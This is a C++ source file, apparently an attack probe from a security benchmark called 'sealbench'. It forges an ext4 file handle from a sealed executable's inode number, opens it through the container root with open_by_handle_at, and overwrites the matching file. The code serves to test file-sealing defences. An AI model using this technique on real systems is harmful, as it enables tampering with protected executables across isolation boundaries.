// forged-handle: a file handle made up from the inode number that stat(2) of the sealed exe tells.
#include <fcntl.h>
#include <sys/stat.h>

#include <cstdint>
#include <cstring>

#include "sys/unique_fd.hpp"
#include "workloads/payloads/probe/attack.hpp"
#include "workloads/payloads/probe/probe.hpp"

namespace sealbench::probe {

const Probe& forged_handle() {
  static const Probe kProbe{
      .name = "forged-handle",
      .goal = Goal::file_handle,
      .summary = "makes up an ext4 file handle from the exe's inode number and opens it through the container's root",
      .mechanism =
          "file handles are no secret: inode number and generation, and ext4 takes generation 0 for any "
          "(fs/ext4/super.c ext4_nfs_get_inode); overlayfs without xino passes the lower inode number on",
      // Needs no handle at all, only a number that can be counted up to: no strategy can do anything about it.
      .experiment = true,
      .attempt =
          [](Attack& attack) {
            struct stat exe {};
            if (attack.did("fstat", ::fstat(attack.handle(), &exe)) < 0) return;
            constexpr unsigned kInodeAndGeneration = 8;
            constexpr int kInodeHandle = 1;  // FILEID_INO32_GEN, include/linux/exportfs.h
            union {
              struct file_handle handle;
              unsigned char storage[sizeof(struct file_handle) + kInodeAndGeneration];
            } name{};
            name.handle.handle_bytes = kInodeAndGeneration;
            name.handle.handle_type = kInodeHandle;
            const auto inode = static_cast<std::uint32_t>(exe.st_ino);
            std::memcpy(name.storage + sizeof(struct file_handle), &inode, sizeof inode);
            const sys::UniqueFd root(::open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC));
            const sys::UniqueFd fd(
                attack.did("open_by_handle_at", ::open_by_handle_at(root.get(), &name.handle, O_PATH | O_CLOEXEC)));
            if (!fd) return;
            // Whatever has that number: only a file of the exe's size is written to.
            struct stat found {};
            if (::fstat(fd.get(), &found) < 0 || found.st_size != exe.st_size || !S_ISREG(found.st_mode)) return;
            attack.overwrite(Attack::path_of(fd.get()));
          },
  };
  return kProbe;
}

}  // namespace sealbench::probe
